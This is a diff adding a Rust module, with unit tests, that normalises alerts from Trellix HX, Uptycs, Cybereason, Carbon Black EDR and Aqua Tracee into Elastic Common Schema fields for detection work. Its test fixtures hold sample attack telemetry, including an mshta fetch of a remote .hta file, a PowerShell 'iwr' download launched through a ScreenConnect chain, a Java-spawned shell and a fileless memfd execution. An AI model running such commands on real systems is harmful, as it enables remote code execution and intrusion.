@@ -1,0 +1,745 @@
+//! More endpoint products' alert shapes, mapped onto ECS with the same helpers as `edr`:
+//! Trellix (FireEye) HX alerts, Uptycs alerts, Cybereason process queries, Carbon Black EDR
+//! (Response) forwarder events and Aqua Tracee events. Each adapter recognises its shape by fields no other shape has
+//! together and returns `None` otherwise.
+
+use super::edr::{
+    finish, mtext, process_columns, put_process, set_techniques, set_user, shell_join, text,
+    with_branches,
+};
+use super::{s, set_path};
+use serde_json::{Map, Value as Json, json};
+
+/// Trellix (FireEye) HX alerts (`/hx/api/v3/alerts`): the event that matched is under
+/// `event_values`, its fields named `KIND/field` (`processEvent/processCmdLine`,
+/// `processEvent/parentProcessPath`, `ipv4NetworkEvent/remoteIP`, `dnsLookupEvent/hostname`,
+/// `urlMonitorEvent/requestUrl`, `fileWriteEvent/fullPath` …); every kind names the process
+/// (`process`, `processPath`) and its user. The host is the alert's `agent.hostname`, the rule
+/// its `indicator`.
+pub(super) fn fireeye_hx(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    let ev = obj.get("event_values")?.as_object()?;
+    let kind = mtext(obj, "event_type").or_else(|| {
+        ev.keys()
+            .find_map(|k| k.split_once('/').map(|(kind, _)| kind))
+    })?;
+    let f = |k: &str| mtext(ev, &format!("{kind}/{k}"));
+    f("process").or(f("processPath"))?;
+    let mut e = Map::new();
+    put_process(
+        &mut e,
+        "process",
+        f("processPath").map(str::to_owned),
+        f("processCmdLine"),
+    );
+    if f("processPath").is_none()
+        && let Some(n) = f("process")
+    {
+        set_path(&mut e, "process.name", s(n));
+    }
+    put_process(
+        &mut e,
+        "process.parent",
+        f("parentProcessPath").map(str::to_owned),
+        None,
+    );
+    if f("parentProcessPath").is_none()
+        && let Some(n) = f("parentProcess")
+    {
+        set_path(&mut e, "process.parent.name", s(n));
+    }
+    let num = |k: &str| {
+        ev.get(&format!("{kind}/{k}")).and_then(|v| {
+            v.as_i64()
+                .or_else(|| v.as_str().and_then(|x| x.parse().ok()))
+        })
+    };
+    for (from, to) in [("pid", "process.pid"), ("parentPid", "process.parent.pid")] {
+        if let Some(v) = num(from) {
+            set_path(&mut e, to, Json::from(v));
+        }
+    }
+    if let Some(h) = f("md5") {
+        set_path(&mut e, "process.hash.md5", s(h));
+    }
+    if let Some(u) = f("username") {
+        set_user(&mut e, u);
+    }
+    // What the event itself did.
+    let category = match kind {
+        "ipv4NetworkEvent" | "ipv6NetworkEvent" => {
+            if let Some(ip) = f("remoteIP").or(f("remoteIpAddress")) {
+                set_path(&mut e, "destination.ip", s(ip));
+            }
+            if let Some(p) = num("remotePort") {
+                set_path(&mut e, "destination.port", Json::from(p));
+            }
+            "network"
+        }
+        "dnsLookupEvent" => {
+            if let Some(h) = f("hostname") {
+                set_path(&mut e, "dns.question.name", s(h));
+            }
+            "network"
+        }
+        "urlMonitorEvent" => {
+            if let Some(u) = f("requestUrl") {
+                let full = match (u.contains("://"), f("hostname")) {
+                    (false, Some(h)) => format!("http://{h}{u}"),
+                    _ => u.to_owned(),
+                };
+                set_path(&mut e, "url.full", s(&full));
+            }
+            if let Some(h) = f("hostname") {
+                set_path(&mut e, "destination.domain", s(h));
+            }
+            if let Some(ip) = f("remoteIpAddress") {
+                set_path(&mut e, "destination.ip", s(ip));
+            }
+            if let Some(a) = f("userAgent") {
+                set_path(&mut e, "user_agent.original", s(a));
+            }
+            "network"
+        }
+        "fileWriteEvent" => {
+            if let Some(p) = f("fullPath") {
+                set_path(&mut e, "file.path", s(p));
+            }
+            "file"
+        }
+        _ => "process",
+    };
+    if let Some(h) = obj.get("agent").and_then(|a| text(a, "hostname")) {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(i) = obj.get("indicator")
+        && let Some(n) = text(i, "display_name").or_else(|| text(i, "name"))
+    {
+        set_path(&mut e, "rule.name", s(n));
+    }
+    if let Some(t) = mtext(obj, "event_at").or_else(|| f("timestamp")) {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = obj.get("_id").map(|v| match v {
+        Json::String(x) => x.clone(),
+        other => other.to_string(),
+    });
+    // Before `finish`, which would make it a process event.
+    set_path(&mut e, "event.category", json!([category]));
+    finish(
+        &mut e,
+        "fireeye_hx",
+        "fireeye_hx",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+/// Uptycs alerts (`/api/customers/{id}/alerts`): the event that raised the alert is under
+/// `metadata`, a JSON string (or object) of osquery `process_events` columns (`path`,
+/// `cmdline`, `cwd`, `uid`, `parent_path`, `username`) plus `ancestor_list`, the parent chain
+/// as JSON, nearest first. The alert's `code` and `description` name the rule.
+pub(super) fn uptycs(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    if !(obj.contains_key("upt_asset_id")
+        || obj.contains_key("assetId")
+        || obj.contains_key("upt_hostname"))
+    {
+        return None;
+    }
+    let meta = match obj.get("metadata")? {
+        Json::String(m) => serde_json::from_str::<Json>(m).ok()?,
+        m @ Json::Object(_) => m.clone(),
+        _ => return None,
+    };
+    let meta = meta.as_object()?;
+    // osquery reports every column as a string; Uptycs gives numbers as numbers.
+    let cols: Map<String, Json> = meta
+        .iter()
+        .map(|(k, v)| {
+            let v = match v {
+                Json::Number(n) => Json::String(n.to_string()),
+                other => other.clone(),
+            };
+            (k.clone(), v)
+        })
+        .collect();
+    let cols = Json::Object(cols);
+    text(&cols, "cmdline").or_else(|| text(&cols, "path"))?;
+    let mut e = Map::new();
+    put_process(
+        &mut e,
+        "process",
+        text(&cols, "path").map(str::to_owned),
+        text(&cols, "cmdline"),
+    );
+    let ancestors: Vec<Json> = match meta.get("ancestor_list") {
+        Some(Json::String(a)) => serde_json::from_str(a).unwrap_or_default(),
+        Some(Json::Array(a)) => a.clone(),
+        _ => Vec::new(),
+    };
+    for (a, prefix) in ancestors
+        .iter()
+        .zip(["process.parent", "process.parent.parent"])
+    {
+        let path = text(a, "path").map(str::to_owned);
+        if path.is_none()
+            && let Some(n) = text(a, "exe_name")
+        {
+            set_path(&mut e, &format!("{prefix}.name"), s(n));
+        }
+        put_process(&mut e, prefix, path, text(a, "cmdline"));
+    }
+    process_columns(&cols, &mut e);
+    let host = ["host_name", "hostName", "upt_hostname"]
+        .into_iter()
+        .find_map(|k| mtext(obj, k))
+        .or_else(|| text(&cols, "upt_hostname"));
+    if let Some(h) = host {
+        set_path(&mut e, "host.name", s(h));
+    }
+    if let Some(os) = text(&cols, "os") {
+        set_path(&mut e, "host.os.name", s(os));
+    }
+    if let Some(n) = mtext(obj, "description").or_else(|| mtext(obj, "code")) {
+        set_path(&mut e, "rule.name", s(n));
+    }
+    if let Some(t) = mtext(obj, "alert_time").or_else(|| mtext(obj, "alertTime")) {
+        e.insert("@timestamp".into(), s(t));
+    }
+    let id = mtext(obj, "id").map(str::to_owned);
+    finish(&mut e, "uptycs", "uptycs", Json::Object(obj.clone()));
+    Some((e, id))
+}
+
+/// Cybereason process queries (`/rest/visualsearch/query/simple`, and a MalOp's processes):
+/// `data.resultIdToElementDataMap` holds each process by guid, with `simpleValues` (each a
+/// list under `values`: `elementDisplayName`, `commandLine`, `pid`, `imageFile.*`) and
+/// `elementValues` naming related elements (`parentProcess`, `ownerMachine`,
+/// `calculatedUser`) by guid. The process taken is the first no other result names as its
+/// parent (the newest); its parent and grandparent come from the same results, and the other
+/// chains' newest command lines are added as branches.
+pub(super) fn cybereason(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    let results = obj
+        .get("data")?
+        .get("resultIdToElementDataMap")?
+        .as_object()?;
+    let simple = |p: &Json, k: &str| -> Option<String> {
+        let v = p.get("simpleValues")?.get(k)?.get("values")?.as_array()?;
+        Some(v.first()?.as_str()?.trim().to_owned()).filter(|x| !x.is_empty())
+    };
+    let related = |p: &Json, k: &str| -> Option<(Option<String>, Option<String>)> {
+        let el = p.get("elementValues")?.get(k)?.get("elementValues")?;
+        let first = el.as_array()?.first()?;
+        Some((
+            text(first, "guid").map(str::to_owned),
+            text(first, "name").map(str::to_owned),
+        ))
+    };
+    let procs: Vec<(&String, &Json)> = results
+        .iter()
+        .filter(|(_, p)| {
+            simple(p, "commandLine").is_some() || simple(p, "elementDisplayName").is_some()
+        })
+        .collect();
+    let parent_guid = |p: &Json| related(p, "parentProcess").and_then(|(g, _)| g);
+    let is_leaf = |g: &str| {
+        !procs
+            .iter()
+            .any(|(_, q)| parent_guid(q).as_deref() == Some(g))
+    };
+    let (me_guid, me) = procs
+        .iter()
+        .find(|(g, _)| is_leaf(g))
+        .or(procs.first())
+        .copied()?;
+    let by_guid =
+        |g: Option<String>| g.and_then(|g| procs.iter().find(|(k, _)| **k == g).map(|(_, p)| *p));
+    let path = |p: &Json| {
+        [
+            "imageFile.correctedPath",
+            "imageFilePath",
+            "imageFile.filePath",
+        ]
+        .into_iter()
+        .find_map(|k| simple(p, k))
+    };
+    let mut e = Map::new();
+    let others: Vec<String> = procs
+        .iter()
+        .filter(|(g, _)| *g != me_guid && is_leaf(g))
+        .filter_map(|(_, p)| simple(p, "commandLine"))
+        .collect();
+    put_process(
+        &mut e,
+        "process",
+        path(me),
+        with_branches(
+            simple(me, "commandLine").as_deref(),
+            others.iter().map(String::as_str),
+        )
+        .as_deref(),
+    );
+    if path(me).is_none()
+        && let Some(n) = simple(me, "elementDisplayName")
+    {
+        set_path(&mut e, "process.name", s(&n));
+    }
+    // Parent and grandparent: from their own results where the query returned them, else
+    // by the name the child's `parentProcess` gives.
+    let mut child = me;
+    for prefix in ["process.parent", "process.parent.parent"] {
+        let Some((guid, name)) = related(child, "parentProcess") else {
+            break;
+        };
+        match by_guid(guid) {
+            Some(p) => {
+                put_process(&mut e, prefix, path(p), simple(p, "commandLine").as_deref());
+                if path(p).is_none()
+                    && let Some(n) = simple(p, "elementDisplayName").or(name)
+                {
+                    set_path(&mut e, &format!("{prefix}.name"), s(&n));
+                }
+                child = p;
+            }
+            None => {
+                if let Some(n) = name {
+                    set_path(&mut e, &format!("{prefix}.name"), s(&n));
+                }
+                break;
+            }
+        }
+    }
+    if let Some(pid) = simple(me, "pid").and_then(|p| p.parse::<i64>().ok()) {
+        set_path(&mut e, "process.pid", Json::from(pid));
+    }
+    for (from, to) in [
+        ("imageFile.sha1String", "process.hash.sha1"),
+        ("imageFile.md5String", "process.hash.md5"),
+    ] {
+        if let Some(h) = simple(me, from) {
+            set_path(&mut e, to, s(&h));
+        }
+    }
+    if let Some((_, Some(u))) = related(me, "calculatedUser") {
+        set_user(&mut e, &u);
+    }
+    if let Some((_, Some(h))) = related(me, "ownerMachine") {
+        set_path(&mut e, "host.name", s(&h));
+    }
+    if let Some(t) = simple(me, "creationTime")
+        .and_then(|t| t.parse::<i64>().ok())
+        .and_then(chrono::DateTime::from_timestamp_millis)
+    {
+        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
+    }
+    let id = me_guid.clone();
+    finish(
+        &mut e,
+        "cybereason",
+        "cybereason",
+        Json::Object(obj.clone()),
+    );
+    Some((e, Some(id)))
+}
+
+/// VMware Carbon Black EDR (Response) events as its event forwarder ships them
+/// (`ingress.event.procstart`, `ingress.event.netconn` …): `path` (or `process_path`),
+/// `command_line`, `parent_path`, `pid`, `parent_pid`, `username`, `computer_name`; a
+/// connection's `remote_ip` / `remote_port` / `domain`.
+pub(super) fn carbon_black_edr(
+    obj: &Map<String, Json>,
+) -> Option<(Map<String, Json>, Option<String>)> {
+    let kind = mtext(obj, "type").filter(|t| t.starts_with("ingress.event."))?;
+    mtext(obj, "computer_name")?;
+    let mut e = Map::new();
+    let path = mtext(obj, "process_path").or_else(|| mtext(obj, "path"));
+    put_process(
+        &mut e,
+        "process",
+        path.map(str::to_owned),
+        mtext(obj, "command_line"),
+    );
+    if path.is_none()
+        && let Some(n) = mtext(obj, "process_name")
+    {
+        set_path(&mut e, "process.name", s(n));
+    }
+    put_process(
+        &mut e,
+        "process.parent",
+        mtext(obj, "parent_path").map(str::to_owned),
+        mtext(obj, "parent_command_line"),
+    );
+    for (from, to) in [("pid", "process.pid"), ("parent_pid", "process.parent.pid")] {
+        if let Some(v) = obj.get(from).filter(|v| v.is_number()) {
+            set_path(&mut e, to, v.clone());
+        }
+    }
+    for (from, to) in [
+        ("sha256", "process.hash.sha256"),
+        ("md5", "process.hash.md5"),
+    ] {
+        if let Some(h) = mtext(obj, from) {
+            set_path(&mut e, to, s(&h.to_ascii_lowercase()));
+        }
+    }
+    if let Some(u) = mtext(obj, "username") {
+        set_user(&mut e, u);
+    }
+    if let Some(uid) = mtext(obj, "uid") {
+        set_path(&mut e, "user.id", s(uid));
+    }
+    if let Some(h) = mtext(obj, "computer_name") {
+        set_path(&mut e, "host.name", s(h));
+    }
+    let network = kind == "ingress.event.netconn";
+    if network {
+        if let Some(ip) = mtext(obj, "remote_ip").or_else(|| mtext(obj, "ipv4")) {
+            set_path(&mut e, "destination.ip", s(ip));
+        }
+        if let Some(p) = obj.get("remote_port").filter(|v| v.is_number()) {
+            set_path(&mut e, "destination.port", p.clone());
+        }
+        if let Some(d) = mtext(obj, "domain") {
+            set_path(&mut e, "destination.domain", s(d));
+        }
+        set_path(&mut e, "event.category", json!(["network"]));
+    }
+    if let Some(t) = obj
+        .get("timestamp")
+        .and_then(Json::as_f64)
+        .and_then(|t| chrono::DateTime::from_timestamp_millis((t * 1000.0) as i64))
+    {
+        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
+    }
+    let id = mtext(obj, "process_guid").map(str::to_owned);
+    finish(
+        &mut e,
+        "carbonblack_edr",
+        "carbon_black",
+        Json::Object(obj.clone()),
+    );
+    Some((e, id))
+}
+
+/// Aqua Tracee events (its JSON output): a program's execution (`sched_process_exec`,
+/// `execve`), or a signature's finding whose `triggeredBy` argument holds the event that fired
+/// it. The event's `args` (each `name` / `value`: `pathname`, `argv`, `cmdpath`) describe the
+/// program; `processName`, `userId`, `hostName`, the container and the Kubernetes pod where it
+/// ran; the signature's `metadata.Properties` its name and ATT&CK id.
+pub(super) fn tracee(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
+    mtext(obj, "eventName")?;
+    let args = obj.get("args")?.as_array()?;
+    if !(obj.contains_key("processName") && obj.contains_key("hostName")) {
+        return None;
+    }
+    fn arg<'a>(list: &'a [Json], k: &str) -> Option<&'a Json> {
+        list.iter()
+            .find(|a| text(a, "name") == Some(k))
+            .and_then(|a| a.get("value"))
+    }
+    let exec: &[Json] = match arg(args, "triggeredBy") {
+        Some(t) => t.get("args").and_then(Json::as_array)?,
+        None => args,
+    };
+    let path = arg(exec, "pathname")
+        .and_then(Json::as_str)
+        .map(|p| p.trim_end_matches(" (deleted)"))
+        .filter(|p| !p.is_empty())
+        .or_else(|| obj.get("executable").and_then(|x| text(x, "path")));
+    let argv: Vec<&str> = arg(exec, "argv")
+        .and_then(Json::as_array)
+        .map(|a| a.iter().filter_map(Json::as_str).collect())
+        .unwrap_or_default();
+    if path.is_none() && argv.is_empty() {
+        return None;
+    }
+    let mut e = Map::new();
+    let cmd = (!argv.is_empty()).then(|| shell_join(&argv));
+    put_process(&mut e, "process", path.map(str::to_owned), cmd.as_deref());
+    if !argv.is_empty() {
+        set_path(&mut e, "process.args", json!(argv));
+    }
+    if path.is_none()
+        && let Some(n) = mtext(obj, "processName")
+    {
+        set_path(&mut e, "process.name", s(n));
+    }
+    for (from, to) in [
+        ("processId", "process.pid"),
+        ("parentProcessId", "process.parent.pid"),
+    ] {
+        if let Some(v) = obj.get(from).filter(|v| v.is_number()) {
+            set_path(&mut e, to, v.clone());
+        }
+    }
+    if let Some(uid) = obj.get("userId").and_then(Json::as_i64) {
+        set_path(&mut e, "user.id", s(&uid.to_string()));
+        if uid == 0 {
+            set_path(&mut e, "user.name", s("root"));
+        }
+    }
+    if let Some(h) = mtext(obj, "hostName") {
+        set_path(&mut e, "host.name", s(h));
+    }
+    set_path(&mut e, "host.os.type", s("linux"));
+    if let Some(c) = obj.get("container").filter(|c| text(c, "id").is_some()) {
+        for (from, to) in [
+            ("id", "container.id"),
+            ("name", "container.name"),
+            ("image", "container.image.name"),
+        ] {
+            if let Some(v) = text(c, from) {
+                set_path(&mut e, to, s(v));
+            }
+        }
+    }
+    if let Some(k) = obj.get("kubernetes") {
+        if let Some(p) = text(k, "podName") {
+            set_path(&mut e, "orchestrator.resource.name", s(p));
+            set_path(&mut e, "orchestrator.type", s("kubernetes"));
+        }
+        if let Some(n) = text(k, "podNamespace") {
+            set_path(&mut e, "orchestrator.namespace", s(n));
+        }
+    }
+    if let Some(props) = obj.get("metadata").and_then(|m| m.get("Properties")) {
+        if let Some(n) = text(props, "signatureName") {
+            set_path(&mut e, "rule.name", s(n));
+        }
+        set_techniques(
+            &mut e,
+            &text(props, "external_id").into_iter().collect::<Vec<_>>(),
+        );
+    }
+    if let Some(t) = obj
+        .get("timestamp")
+        .and_then(Json::as_i64)
+        .map(chrono::DateTime::from_timestamp_nanos)
+    {
+        e.insert("@timestamp".into(), s(&t.to_rfc3339()));
+    }
+    finish(&mut e, "tracee", "tracee", Json::Object(obj.clone()));
+    Some((e, None))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn get<'a>(e: &'a Map<String, Json>, path: &str) -> Option<&'a Json> {
+        let mut v = e.get(path.split('.').next()?)?;
+        for k in path.split('.').skip(1) {
+            v = v.get(k)?;
+        }
+        Some(v)
+    }
+
+    fn str_at<'a>(e: &'a Map<String, Json>, path: &str) -> &'a str {
+        get(e, path).and_then(Json::as_str).unwrap_or("")
+    }
+
+    #[test]
+    fn fireeye_hx_process_and_network_events() {
+        let a = json!({
+            "_id": 18342,
+            "agent": {"_id": "Xr8w", "hostname": "MKT-WS-1187"},
+            "indicator": {"display_name": "MSHTA REMOTE SCRIPT EXECUTION (METHODOLOGY)"},
+            "event_at": "2025-04-14T09:03:27.604Z",
+            "event_type": "processEvent",
+            "event_values": {
+                "processEvent/processPath": "C:\\Windows\\SysWOW64\\mshta.exe",
+                "processEvent/process": "mshta.exe",
+                "processEvent/processCmdLine": "mshta.exe https://docs.example/x.hta",
+                "processEvent/parentProcessPath": "C:\\Windows\\explorer.exe",
+                "processEvent/parentProcess": "explorer.exe",
+                "processEvent/pid": 9132,
+                "processEvent/parentPid": 5216,
+                "processEvent/username": "MKTG\\jlee",
+                "processEvent/md5": "7083239ce743fdb68dfc933b7308e80a"
+            }
+        });
+        let (e, id) = fireeye_hx(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("18342"));
+        assert_eq!(str_at(&e, "process.name"), "mshta.exe");
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "mshta.exe https://docs.example/x.hta"
+        );
+        assert_eq!(str_at(&e, "process.parent.name"), "explorer.exe");
+        assert_eq!(get(&e, "process.parent.pid"), Some(&json!(5216)));
+        assert_eq!(str_at(&e, "user.name"), "jlee");
+        assert_eq!(str_at(&e, "user.domain"), "MKTG");
+        assert_eq!(str_at(&e, "host.name"), "MKT-WS-1187");
+        assert_eq!(
+            str_at(&e, "rule.name"),
+            "MSHTA REMOTE SCRIPT EXECUTION (METHODOLOGY)"
+        );
+        assert_eq!(get(&e, "event.category"), Some(&json!(["process"])));
+
+        let n = json!({
+            "_id": "7", "agent": {"hostname": "h"},
+            "event_values": {
+                "ipv4NetworkEvent/process": "powershell.exe",
+                "ipv4NetworkEvent/processPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "ipv4NetworkEvent/remoteIP": "203.0.113.9",
+                "ipv4NetworkEvent/remotePort": "443"
+            }
+        });
+        let (e, _) = fireeye_hx(n.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.9");
+        assert_eq!(get(&e, "destination.port"), Some(&json!(443)));
+        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
+        assert_eq!(get(&e, "event.category"), Some(&json!(["network"])));
+        // Not HX: no event values.
+        assert!(fireeye_hx(json!({"_id": 1, "agent": {}}).as_object().unwrap()).is_none());
+    }
+
+    #[test]
+    fn uptycs_alert_metadata_and_ancestors() {
+        let meta = json!({
+            "pid": 310288, "path": "/usr/bin/bash", "cmdline": "bash -c id", "cwd": "/opt/tomcat",
+            "uid": 0, "parent_path": "/usr/bin/java", "username": "tomcat",
+            "ancestor_list": "[{\"pid\": 1442, \"exe_name\": \"java\", \"path\": \"/usr/lib/jvm/bin/java\", \"cmdline\": \"java -jar app.jar\"}, {\"pid\": 1, \"exe_name\": \"systemd\", \"path\": \"/usr/lib/systemd/systemd\", \"cmdline\": \"/sbin/init\"}]",
+            "os": "Rocky Linux 9.5"
+        });
+        let a = json!({
+            "id": "c59b", "code": "JAVA_SPAWNED_SHELL", "description": "Shell spawned by Java",
+            "alert_time": "2025-05-10 23:12:44.000", "upt_asset_id": "eb1d", "host_name": "hr-app-02",
+            "metadata": meta.to_string()
+        });
+        let (e, id) = uptycs(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("c59b"));
+        assert_eq!(str_at(&e, "process.command_line"), "bash -c id");
+        assert_eq!(str_at(&e, "process.working_directory"), "/opt/tomcat");
+        assert_eq!(
+            str_at(&e, "process.parent.executable"),
+            "/usr/lib/jvm/bin/java"
+        );
+        assert_eq!(
+            str_at(&e, "process.parent.command_line"),
+            "java -jar app.jar"
+        );
+        assert_eq!(str_at(&e, "process.parent.parent.name"), "systemd");
+        assert_eq!(get(&e, "process.pid"), Some(&json!(310288)));
+        assert_eq!(str_at(&e, "user.name"), "tomcat");
+        assert_eq!(str_at(&e, "user.id"), "0");
+        assert_eq!(str_at(&e, "host.name"), "hr-app-02");
+        assert_eq!(str_at(&e, "rule.name"), "Shell spawned by Java");
+        // Metadata that is not a process event is not taken.
+        let other = json!({"upt_asset_id": "x", "metadata": "{\"domain\": \"a.example\"}"});
+        assert!(uptycs(other.as_object().unwrap()).is_none());
+    }
+
+    fn cr_process(name: &str, cmd: &str, parent: (&str, &str), user: &str) -> Json {
+        let one = |v: &str| json!({"totalValues": 1, "values": [v]});
+        let el =
+            |g: &str, n: &str| json!({"totalValues": 1, "elementValues": [{"guid": g, "name": n}]});
+        json!({
+            "simpleValues": {"elementDisplayName": one(name), "commandLine": one(cmd), "pid": one("7316"),
+                             "creationTime": one("1745028698000")},
+            "elementValues": {"parentProcess": el(parent.0, parent.1), "calculatedUser": el("u", user),
+                              "ownerMachine": el("m", "hb-acct-ws07")}
+        })
+    }
+
+    #[test]
+    fn cybereason_takes_the_newest_process_and_its_chain() {
+        let a = json!({"data": {"resultIdToElementDataMap": {
+            "g.sc": cr_process("ScreenConnect.ClientService.exe", "ScreenConnect.ClientService.exe ?e=Access", ("g.svc", "services.exe"), "nt authority\\system"),
+            "g.cmd": cr_process("cmd.exe", "cmd.exe /c run.cmd", ("g.sc", "ScreenConnect.ClientService.exe"), "nt authority\\system"),
+            "g.ps": cr_process("powershell.exe", "powershell.exe -nop -c iwr x", ("g.cmd", "cmd.exe"), "nt authority\\system"),
+            "g.ssh": cr_process("sshd", "sshd: deploy [priv]", ("g.sshd", "sshd"), "root")
+        }}, "status": "SUCCESS"});
+        let (e, id) = cybereason(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("g.ps"));
+        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "powershell.exe -nop -c iwr x\nsshd: deploy [priv]"
+        );
+        assert_eq!(str_at(&e, "process.parent.name"), "cmd.exe");
+        assert_eq!(
+            str_at(&e, "process.parent.command_line"),
+            "cmd.exe /c run.cmd"
+        );
+        assert_eq!(
+            str_at(&e, "process.parent.parent.name"),
+            "ScreenConnect.ClientService.exe"
+        );
+        assert_eq!(str_at(&e, "user.name"), "system");
+        assert_eq!(str_at(&e, "user.domain"), "nt authority");
+        assert_eq!(str_at(&e, "host.name"), "hb-acct-ws07");
+        assert_eq!(get(&e, "process.pid"), Some(&json!(7316)));
+        assert!(cybereason(json!({"data": {"x": 1}}).as_object().unwrap()).is_none());
+    }
+    #[test]
+    fn carbon_black_edr_forwarder_events() {
+        let a = json!({
+            "type": "ingress.event.procstart", "computer_name": "jenkins-agent-04",
+            "command_line": "/bin/sh -xe /tmp/jenkins84.sh", "path": "/usr/bin/dash",
+            "parent_path": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "parent_pid": 2876,
+            "pid": 28442, "process_guid": "09c2", "username": "jenkins", "uid": "1002",
+            "md5": "EBFF23F80CD0CB0EF49E981FC8752D56", "timestamp": 1747045656.45
+        });
+        let (e, id) = carbon_black_edr(a.as_object().unwrap()).unwrap();
+        assert_eq!(id.as_deref(), Some("09c2"));
+        assert_eq!(str_at(&e, "process.name"), "dash");
+        assert_eq!(str_at(&e, "process.parent.name"), "java");
+        assert_eq!(
+            str_at(&e, "process.hash.md5"),
+            "ebff23f80cd0cb0ef49e981fc8752d56"
+        );
+        assert_eq!(str_at(&e, "user.name"), "jenkins");
+        assert_eq!(str_at(&e, "host.name"), "jenkins-agent-04");
+        assert_eq!(str_at(&e, "@timestamp"), "2025-05-12T10:27:36.450+00:00");
+        let n = json!({"type": "ingress.event.netconn", "computer_name": "h", "process_path": "c:\\windows\\system32\\cmd.exe",
+                       "remote_ip": "203.0.113.4", "remote_port": 8080, "domain": "bad.example"});
+        let (e, _) = carbon_black_edr(n.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.4");
+        assert_eq!(str_at(&e, "destination.domain"), "bad.example");
+        assert_eq!(get(&e, "event.category"), Some(&json!(["network"])));
+        assert!(
+            carbon_black_edr(
+                json!({"type": "alert", "computer_name": "h"})
+                    .as_object()
+                    .unwrap()
+            )
+            .is_none()
+        );
+    }
+    #[test]
+    fn tracee_signature_takes_the_triggering_execution() {
+        let a = json!({
+            "timestamp": 1752071829441028861u64, "processId": 61, "parentProcessId": 58, "userId": 1000,
+            "processName": "3", "hostName": "gke-node-1", "eventName": "fileless_execution",
+            "container": {"id": "f94e", "name": "worker", "image": "acme/worker:3.11"},
+            "kubernetes": {"podName": "worker-7d9", "podNamespace": "apps"},
+            "args": [{"name": "triggeredBy", "value": {"name": "sched_process_exec", "args": [
+                {"name": "cmdpath", "value": "/proc/self/fd/3"},
+                {"name": "pathname", "value": "memfd:kworker (deleted)"},
+                {"name": "argv", "value": ["[kworker/u8:2-events_unbound]"]}]}}],
+            "metadata": {"Properties": {"signatureName": "Fileless Execution", "external_id": "T1620"}}
+        });
+        let (e, _) = tracee(a.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "process.executable"), "memfd:kworker");
+        assert_eq!(
+            str_at(&e, "process.command_line"),
+            "[kworker/u8:2-events_unbound]"
+        );
+        assert_eq!(str_at(&e, "user.id"), "1000");
+        assert_eq!(str_at(&e, "container.image.name"), "acme/worker:3.11");
+        assert_eq!(str_at(&e, "orchestrator.namespace"), "apps");
+        assert_eq!(str_at(&e, "rule.name"), "Fileless Execution");
+        assert_eq!(get(&e, "threat.technique.id"), Some(&json!(["T1620"])));
+        assert_eq!(
+            str_at(&e, "@timestamp"),
+            "2025-07-09T14:37:09.441028861+00:00"
+        );
+        // A plain exec event.
+        let x = json!({"processName": "sh", "hostName": "n", "eventName": "sched_process_exec", "userId": 0,
+            "args": [{"name": "pathname", "value": "/bin/sh"}, {"name": "argv", "value": ["sh", "-c", "id; uname -a"]}]});
+        let (e, _) = tracee(x.as_object().unwrap()).unwrap();
+        assert_eq!(str_at(&e, "process.command_line"), "sh -c 'id; uname -a'");
+        assert_eq!(str_at(&e, "user.name"), "root");
+    }
+}
